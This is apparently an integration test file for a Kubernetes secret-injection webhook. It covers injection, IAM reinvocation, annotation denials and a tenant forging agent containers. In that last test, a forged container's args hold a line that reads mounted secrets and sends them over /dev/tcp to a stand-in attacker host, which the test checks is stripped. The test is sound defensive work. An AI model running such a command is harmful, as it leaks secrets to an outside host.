/**
 * The injector end to end on the real API server: smk's webhook server registered with a
 * MutatingWebhookConfiguration (url mode, caBundle), the seed 002 Deployment as printed in the
 * article, the Deployment controller creating the Pod, the stored Pod's injected init container
 * run locally (its env, paths moved into a temp root) against moto; denials seen through the API
 * server; the EKS identity webhook running after ours (reinvocation); `smk inject` output applied.
 */
import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import { randomUUID } from 'node:crypto';
import { mkdir, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { createServer, type Server } from 'node:https';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import {
  CreateSecretCommand,
  PutSecretValueCommand,
  ResourceExistsException,
  SecretsManagerClient,
} from '@aws-sdk/client-secrets-manager';
import {
  AdmissionregistrationV1Api,
  ApiException,
  AppsV1Api,
  CoreV1Api,
  RbacAuthorizationV1Api,
  type V1Container,
  type V1Deployment,
  type V1Pod,
} from '@kubernetes/client-node';
import fastJsonPatch from 'fast-json-patch';
import { parse as parseYaml } from 'yaml';
import { initContainerName, refreshContainerName, volumeName } from '../../src/core/agent-contract.ts';
import { silentLogger } from '../../src/core/log.ts';
import { webhookConfiguration } from '../../src/webhook/configuration.ts';
import { defaultInjectorConfig } from '../../src/webhook/mutate.ts';
import { startWebhookServer, type WebhookServer } from '../../src/webhook/server.ts';
import { createCertificateAuthority, issueServingCertificate } from '../../src/webhook/tls/pki.ts';
import { type AwsProxy, startAwsProxy } from '../harness/aws-proxy.ts';
import { connectMoto } from '../harness/moto.ts';
import { connectTestBed, type TestBed } from '../testbed/index.ts';

const cli = new URL('../../src/cli/main.ts', import.meta.url).pathname;
const seedFixture = new URL('../../src/webhook/fixtures/seed-002-deployment.in.yaml', import.meta.url);
const seedArn = 'arn:aws:secretsmanager:us-east-1:123456789012:secret:database-password-hlRvvF';
const agentImage = 'registry.invalid/smk:test';

import { eventually } from '../harness/wait.ts';

function run(
  command: readonly string[],
  env: NodeJS.ProcessEnv,
  input = '',
): Promise<{ code: number; stdout: string; stderr: string }> {
  return new Promise((resolve, reject) => {
    const [file = '', ...args] = command;
    const child = spawn(file, args, { env });
    let stdout = '';
    let stderr = '';
    child.stdout.on('data', (chunk: Buffer) => {
      stdout += chunk.toString();
    });
    child.stderr.on('data', (chunk: Buffer) => {
      stderr += chunk.toString();
    });
    child.on('error', reject);
    child.on('close', (code) => resolve({ code: code ?? 1, stdout, stderr }));
    child.stdin.end(input);
  });
}

/**
 * Runs an injected container's command here: `smk` is this checkout's CLI, every absolute path in
 * its env moves under `root`, and the env is exactly the container's plus the test's AWS endpoint.
 */
function runContainerLocally(
  container: V1Container,
  root: string,
  extraEnv: Record<string, string>,
): Promise<{ code: number; stdout: string; stderr: string }> {
  const env: NodeJS.ProcessEnv = { PATH: process.env.PATH, ...extraEnv };
  for (const variable of container.env ?? []) {
    assert.equal(variable.valueFrom, undefined, `${variable.name} comes from a reference`);
    const value = variable.value ?? '';
    env[variable.name] = value.startsWith('/') ? join(root, value) : value;
  }
  const [program, ...args] = container.command ?? [];
  assert.equal(program, 'smk');
  return run([process.execPath, cli, ...args], env);
}

function awsEnv(endpoint: string): Record<string, string> {
  return {
    AWS_ENDPOINT_URL: endpoint,
    AWS_REGION: 'us-east-1',
    AWS_ACCESS_KEY_ID: 'testing',
    AWS_SECRET_ACCESS_KEY: 'testing',
  };
}

/** Stand-in for the EKS pod identity webhook: IRSA env, token volume and mount on every app container. */
async function startEksIdentityWebhook(
  roleArn: string,
): Promise<{ server: Server; caPem: string; port: number; seen: V1Pod[] }> {
  const ca = await createCertificateAuthority({ commonName: 'eks-identity-test-ca', validForDays: 1 });
  const serving = await issueServingCertificate(ca, { commonName: 'eks', ipAddresses: ['127.0.0.1'] });
  const seen: V1Pod[] = [];
  const server = createServer({ cert: serving.certPem, key: serving.keyPem }, (req, res) => {
    let body = '';
    req.on('data', (chunk: Buffer) => {
      body += chunk.toString();
    });
    req.on('end', () => {
      const review = JSON.parse(body) as { request: { uid: string; object: V1Pod } };
      const pod = review.request.object;
      seen.push(structuredClone(pod));
      const mutated = structuredClone(pod);
      for (const container of mutated.spec?.containers ?? []) {
        if ((container.env ?? []).some((variable) => variable.name === 'AWS_ROLE_ARN')) continue;
        container.env = [
          ...(container.env ?? []),
          { name: 'AWS_REGION', value: 'us-east-1' },
          { name: 'AWS_ROLE_ARN', value: roleArn },
          {
            name: 'AWS_WEB_IDENTITY_TOKEN_FILE',
            value: '/var/run/secrets/eks.amazonaws.com/serviceaccount/token',
          },
        ];
        container.volumeMounts = [
          ...(container.volumeMounts ?? []),
          {
            name: 'aws-iam-token',
            mountPath: '/var/run/secrets/eks.amazonaws.com/serviceaccount',
            readOnly: true,
          },
        ];
      }
      if (mutated.spec && !(mutated.spec.volumes ?? []).some((volume) => volume.name === 'aws-iam-token')) {
        mutated.spec.volumes = [
          ...(mutated.spec.volumes ?? []),
          {
            name: 'aws-iam-token',
            projected: {
              sources: [
                {
                  serviceAccountToken: {
                    audience: 'sts.amazonaws.com',
                    path: 'token',
                    expirationSeconds: 86400,
                  },
                },
              ],
            },
          },
        ];
      }
      const patch = fastJsonPatch.compare(pod, mutated);
      res.setHeader('content-type', 'application/json');
      res.end(
        JSON.stringify({
          apiVersion: 'admission.k8s.io/v1',
          kind: 'AdmissionReview',
          response: {
            uid: review.request.uid,
            allowed: true,
            patchType: 'JSONPatch',
            patch: Buffer.from(JSON.stringify(patch)).toString('base64'),
          },
        }),
      );
    });
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return { server, caPem: ca.certPem, port: (server.address() as AddressInfo).port, seen };
}

/** The client's objects are class instances; compare their JSON. */
const plain = (value: unknown): unknown =>
  value === undefined ? undefined : JSON.parse(JSON.stringify(value));

function container(pod: V1Pod, name: string): V1Container {
  const found = [...(pod.spec?.initContainers ?? []), ...(pod.spec?.containers ?? [])].find(
    (candidate) => candidate.name === name,
  );
  assert.ok(found, `container ${name} in the stored pod`);
  return found;
}

describe('injector on the test bed', () => {
  const moto = connectMoto();
  const secrets = new SecretsManagerClient({ endpoint: moto.endpoint });
  const runId = randomUUID().slice(0, 8);
  let bed: TestBed;
  let namespace: string;
  let cliNamespace: string;
  let work: string;
  let server: WebhookServer;
  let proxy: AwsProxy;
  let eks: Awaited<ReturnType<typeof startEksIdentityWebhook>>;
  const configNames = [`a-smk-inject-${runId}`, `z-eks-identity-${runId}`];
  const roleArn = 'arn:aws:iam::123456789012:role/web-secrets';
  let core: CoreV1Api;

  before(async () => {
    bed = await connectTestBed();
    core = bed.kubeConfig.makeApiClient(CoreV1Api);
    [namespace, cliNamespace] = await Promise.all([
      bed.newNamespace('inject'),
      bed.newNamespace('inject-cli'),
    ]);
    work = await mkdtemp(join(tmpdir(), 'smk-inject-it-'));
    const ca = await createCertificateAuthority({ commonName: 'smk-webhook-test-ca', validForDays: 1 });
    const serving = await issueServingCertificate(ca, {
      commonName: 'smk-webhook',
      ipAddresses: ['127.0.0.1'],
    });
    await writeFile(join(work, 'tls.crt'), serving.certPem);
    await writeFile(join(work, 'tls.key'), serving.keyPem);
    server = await startWebhookServer({
      tlsCertFile: join(work, 'tls.crt'),
      tlsKeyFile: join(work, 'tls.key'),
      injector: { ...defaultInjectorConfig, agentImage },
      log: silentLogger(),
      port: 0,
      host: '127.0.0.1',
    });
    proxy = await startAwsProxy({ target: moto.endpoint });
    eks = await startEksIdentityWebhook(roleArn);

    const admission = bed.kubeConfig.makeApiClient(AdmissionregistrationV1Api);
    // Only this test's namespaces: the bed is shared with tests running in parallel.
    const ours = {
      matchExpressions: [
        { key: 'kubernetes.io/metadata.name', operator: 'In', values: [namespace, cliNamespace] },
      ],
    };
    await admission.createMutatingWebhookConfiguration({
      body: webhookConfiguration({
        name: configNames[0] as string,
        caBundlePem: ca.certPem,
        target: { url: `https://127.0.0.1:${server.port}` },
        namespaceSelector: ours,
      }),
    });
    await admission.createMutatingWebhookConfiguration({
      body: {
        metadata: { name: configNames[1] },
        webhooks: [
          {
            name: 'identity.eks.test',
            clientConfig: {
              url: `https://127.0.0.1:${eks.port}/mutate`,
              caBundle: Buffer.from(eks.caPem).toString('base64'),
            },
            rules: [{ operations: ['CREATE'], apiGroups: [''], apiVersions: ['v1'], resources: ['pods'] }],
            namespaceSelector: { matchLabels: { 'kubernetes.io/metadata.name': namespace } },
            objectSelector: { matchLabels: { 'eks-identity': 'yes' } },
            sideEffects: 'None',
            admissionReviewVersions: ['v1'],
            failurePolicy: 'Fail',
            reinvocationPolicy: 'Never',
          },
        ],
      },
    });
    for (const [ns, name] of [
      [namespace, 'webserver-service-account'],
      [namespace, 'web'],
      [cliNamespace, 'webserver-service-account'],
    ] as const) {
      await core.createNamespacedServiceAccount({ namespace: ns, body: { metadata: { name } } });
    }
    // The API server picks up new webhook configurations asynchronously: probe with dry runs.
    await eventually(
      'both webhooks (injector, then EKS identity and our reinvocation) to take effect',
      async () => {
        const probe = await core.createNamespacedPod({
          namespace,
          dryRun: 'All',
          body: {
            metadata: {
              name: 'probe',
              labels: { 'eks-identity': 'yes' },
              annotations: {
                'smk.dev/inject': 'true',
                'smk.dev/objects': '- {objectName: x, objectType: secretsmanager}',
              },
            },
            spec: {
              serviceAccountName: 'web',
              containers: [{ name: 'app', image: 'registry.invalid/app:1' }],
            },
          },
        });
        const env = probe.spec?.initContainers?.[0]?.env ?? [];
        return env.some((variable) => variable.name === 'AWS_ROLE_ARN') ? true : undefined;
      },
    );
  });

  after(async () => {
    const admission = bed.kubeConfig.makeApiClient(AdmissionregistrationV1Api);
    for (const name of configNames)
      await admission.deleteMutatingWebhookConfiguration({ name }).catch(() => undefined);
    await server.close();
    await new Promise((resolve) => eks.server.close(resolve));
    await proxy.stop();
    secrets.destroy();
    await bed.stop();
    await rm(work, { recursive: true, force: true });
  });

  test('the seed 002 Deployment: the Deployment controller makes an injected Pod whose init container writes /tmp/secret', async () => {
    const value = JSON.stringify({
      username: 'admin',
      password: `P@$$word-${randomUUID()}`,
      engine: 'mysql',
      host: 'database-1.cluster.us-east-1.rds.amazonaws.com',
      port: 3306,
      dbClusterIdentifier: 'database-1',
    });
    // moto resolves the article's ARN by its last segment as the name (there is no random suffix to match).
    try {
      await secrets.send(new CreateSecretCommand({ Name: 'database-password-hlRvvF', SecretString: value }));
    } catch (error) {
      if (!(error instanceof ResourceExistsException)) throw error;
      await secrets.send(new PutSecretValueCommand({ SecretId: seedArn, SecretString: value }));
    }
    const deployment = parseYaml(await readFile(seedFixture, 'utf8')) as V1Deployment;
    await bed.kubeConfig.makeApiClient(AppsV1Api).createNamespacedDeployment({ namespace, body: deployment });

    const pod = await eventually('the Deployment controller to create the Pod', async () => {
      const pods = await core.listNamespacedPod({ namespace, labelSelector: 'run=webserver' });
      return pods.items[0];
    });
    assert.equal(pod.metadata?.annotations?.['smk.dev/status'], 'injected');
    assert.deepEqual(
      pod.spec?.initContainers?.map((c) => c.name),
      [initContainerName],
    );
    const init = container(pod, initContainerName);
    assert.equal(init.image, agentImage);
    assert.deepEqual(init.command, ['smk', 'agent', 'init']);
    assert.equal(init.securityContext?.runAsNonRoot, true);
    assert.equal(init.securityContext?.readOnlyRootFilesystem, true);
    assert.deepEqual(plain(pod.spec?.volumes?.find((volume) => volume.name === volumeName)?.emptyDir), {
      medium: 'Memory',
      sizeLimit: '4Mi',
    });
    const app = container(pod, 'webserver');
    assert.deepEqual(plain(app.volumeMounts?.find((mount) => mount.name === volumeName)), {
      name: volumeName,
      mountPath: '/tmp',
      readOnly: true,
    });
    assert.deepEqual(app.command, ['sh', '-c', 'echo $(cat /tmp/secret) && sleep 3600']);

    const root = join(work, 'seed-root');
    const result = await runContainerLocally(init, root, awsEnv(proxy.endpoint));
    assert.equal(result.code, 0, result.stderr);
    assert.equal(await readFile(join(root, 'tmp', 'secret'), 'utf8'), value);
    assert.doesNotMatch(result.stderr, /P@\$\$word/);
  });

  test('the EKS identity webhook runs after ours: reinvocation gives the agent the pod identity', async () => {
    const name = `inject-it/${runId}/web`;
    const value = `web-${randomUUID()}`;
    await secrets.send(new CreateSecretCommand({ Name: name, SecretString: value }));
    const seenBefore = eks.seen.length;
    await core.createNamespacedPod({
      namespace,
      body: {
        metadata: {
          name: 'web-irsa',
          labels: { 'eks-identity': 'yes' },
          annotations: {
            'smk.dev/inject': 'true',
            'smk.dev/region': 'us-east-1',
            'smk.dev/refresh-interval': '60s',
            'smk.dev/objects': JSON.stringify([
              { objectName: name, objectType: 'secretsmanager', objectAlias: 'token' },
            ]),
          },
        },
        spec: { serviceAccountName: 'web', containers: [{ name: 'app', image: 'registry.invalid/app:1' }] },
      },
    });
    const stored = await core.readNamespacedPod({ namespace, name: 'web-irsa' });
    // Ours ran first (the EKS webhook already saw the injected init container) …
    const seenByEks = eks.seen.slice(seenBefore).find((pod) => pod.metadata?.name === 'web-irsa');
    assert.ok(seenByEks?.spec?.initContainers?.some((c) => c.name === initContainerName));
    assert.ok(!seenByEks?.spec?.initContainers?.some((c) => c.env?.some((v) => v.name === 'AWS_ROLE_ARN')));
    // … and the reinvocation copied what the EKS webhook added into both agent containers.
    for (const agent of [initContainerName, refreshContainerName]) {
      const injected = container(stored, agent);
      assert.equal(injected.env?.find((v) => v.name === 'AWS_ROLE_ARN')?.value, roleArn, agent);
      assert.ok(
        injected.volumeMounts?.some((m) => m.name === 'aws-iam-token'),
        agent,
      );
    }
    assert.equal(container(stored, refreshContainerName).restartPolicy, 'Always');
    assert.equal(stored.spec?.initContainers?.length, 2);

    // Run the init container with only the pod's identity: a real projected token, no static keys.
    const root = join(work, 'irsa-root');
    const tokenFile = join(root, '/var/run/secrets/eks.amazonaws.com/serviceaccount/token');
    await mkdir(dirname(tokenFile), { recursive: true });
    await writeFile(tokenFile, await bed.serviceAccountToken(namespace, 'web', 'sts.amazonaws.com'));
    proxy.resetCounts();
    const result = await runContainerLocally(container(stored, initContainerName), root, {
      AWS_ENDPOINT_URL: proxy.endpoint,
      AWS_SHARED_CREDENTIALS_FILE: join(root, 'no-credentials'),
      AWS_CONFIG_FILE: join(root, 'no-config'),
      AWS_EC2_METADATA_DISABLED: 'true',
    });
    assert.equal(result.code, 0, result.stderr);
    assert.equal(await readFile(join(root, 'var/run/secrets/smk/token'), 'utf8'), value);
    assert.equal(proxy.count({ api: 'AssumeRoleWithWebIdentity' }), 1);
  });

  test('bad annotations are denied through the API server, naming the annotation', async () => {
    const cases: Array<[Record<string, string>, string]> = [
      [
        { 'secrets.k8s.aws/sidecarInjectorWebhook': 'enabled' },
        'annotation secrets.k8s.aws/secret-arn: is required when secrets.k8s.aws/sidecarInjectorWebhook is "enabled"',
      ],
      [
        { 'smk.dev/inject': 'true', 'smk.dev/objects': '- objectName: prod/db' },
        'annotation smk.dev/objects: objects[0] (prod/db): objectType is required unless objectName is an ARN',
      ],
      [
        {
          'smk.dev/inject': 'true',
          'smk.dev/objects': '- {objectName: db, objectType: secretsmanager}',
          'smk.dev/refresh-interval': 'hourly',
        },
        'annotation smk.dev/refresh-interval: expected a duration like 60s, 5m or 1h30m',
      ],
    ];
    for (const [index, [annotations, message]] of cases.entries()) {
      const error = await core
        .createNamespacedPod({
          namespace,
          body: {
            metadata: { name: `denied-${index}`, annotations },
            spec: { containers: [{ name: 'app', image: 'registry.invalid/app:1' }] },
          },
        })
        .then(
          () => assert.fail(`pod denied-${index} was admitted`),
          (failure: unknown) => failure,
        );
      assert.ok(error instanceof ApiException);
      assert.equal(error.code, 400);
      const status = JSON.parse(String(error.body)) as { message: string };
      assert.ok(
        status.message.startsWith(`admission webhook "inject.smk.dev" denied the request: ${message}`),
        status.message,
      );
    }
    await assert.rejects(core.readNamespacedPod({ namespace, name: 'denied-0' }), { code: 404 });
  });

  test("a tenant's pod claiming to be injected, with its own agent containers, gets exactly smk's", async () => {
    // Issue 14 finding 10: `smk.dev/status: injected` made the webhook keep a user container under
    // the reserved name with its own args, envFrom and lifecycle.
    const tenant = `tenant-${runId}`;
    const rbac = bed.kubeConfig.makeApiClient(RbacAuthorizationV1Api);
    await rbac.createNamespacedRole({
      namespace,
      body: {
        metadata: { name: tenant },
        rules: [{ apiGroups: [''], resources: ['pods'], verbs: ['create', 'get'] }],
      },
    });
    await rbac.createNamespacedRoleBinding({
      namespace,
      body: {
        metadata: { name: tenant },
        roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'Role', name: tenant },
        subjects: [{ apiGroup: 'rbac.authorization.k8s.io', kind: 'User', name: tenant }],
      },
    });
    const asTenant = (await bed.kubeConfigFor(tenant)).makeApiClient(CoreV1Api);
    // What a tenant writes under smk's names: its own image, args, envFrom and (where the API
    // server allows one: the native sidecar) lifecycle hook.
    const forged = (name: string): V1Container => ({
      name,
      image: 'registry.invalid/not-smk:1',
      command: ['sh', '-c'],
      args: ['cat /var/run/secrets/smk/* > /dev/tcp/attacker.invalid/80'],
      envFrom: [{ secretRef: { name: 'other-teams-secret' } }],
    });
    const stored = await eventually('the tenant may create pods', () =>
      asTenant.createNamespacedPod({
        namespace,
        body: {
          metadata: {
            name: 'forged-injected',
            annotations: {
              'smk.dev/inject': 'true',
              'smk.dev/objects': '- {objectName: db, objectType: secretsmanager}',
              'smk.dev/refresh-interval': '5m',
              'smk.dev/status': 'injected',
            },
          },
          spec: {
            initContainers: [
              forged(initContainerName),
              {
                ...forged(refreshContainerName),
                restartPolicy: 'Always',
                lifecycle: { postStart: { exec: { command: ['sh', '-c', 'true'] } } },
              },
            ],
            containers: [{ name: 'app', image: 'registry.invalid/app:1' }],
          },
        },
      }),
    );
    for (const [name, mode] of [
      [initContainerName, 'init'],
      [refreshContainerName, 'refresh'],
    ] as const) {
      const agent = container(stored, name);
      assert.equal(agent.image, agentImage, name);
      assert.deepEqual(agent.command, ['smk', 'agent', mode], name);
      for (const field of ['args', 'envFrom', 'lifecycle'] as const)
        assert.equal(agent[field], undefined, `${name} ${field}`);
      assert.equal(agent.securityContext?.readOnlyRootFilesystem, true, name);
    }
  });

  test('a pod without annotations passes untouched', async () => {
    const created = await core.createNamespacedPod({
      namespace,
      body: {
        metadata: { name: 'plain' },
        spec: { containers: [{ name: 'app', image: 'registry.invalid/app:1' }] },
      },
    });
    assert.equal(created.spec?.initContainers, undefined);
    assert.equal(created.metadata?.annotations?.['smk.dev/status'], undefined);
  });

  test('smk inject output is valid for the API server and the webhook leaves it as it is', async () => {
    const injected = await run(
      [process.execPath, cli, 'inject', '-f', '-', '--agent-image', agentImage],
      process.env,
      await readFile(seedFixture, 'utf8'),
    );
    assert.equal(injected.code, 0, injected.stderr);
    const deployment = parseYaml(injected.stdout) as V1Deployment;
    const template = deployment.spec?.template;
    await bed.kubeConfig
      .makeApiClient(AppsV1Api)
      .createNamespacedDeployment({ namespace: cliNamespace, body: deployment });
    const pod = await eventually('the Deployment controller to create the Pod', async () => {
      const pods = await core.listNamespacedPod({ namespace: cliNamespace, labelSelector: 'run=webserver' });
      return pods.items[0];
    });
    assert.deepEqual(
      plain(pod.spec?.initContainers?.map((c) => [c.name, c.image, c.command, c.env])),
      plain(template?.spec?.initContainers?.map((c) => [c.name, c.image, c.command, c.env])),
    );
    assert.deepEqual(
      plain(pod.spec?.containers.map((c) => c.volumeMounts?.filter((m) => m.name === volumeName))),
      [[{ name: volumeName, mountPath: '/tmp', readOnly: true }]],
    );
    assert.equal(pod.spec?.volumes?.filter((v) => v.name === volumeName).length, 1);
  });
});
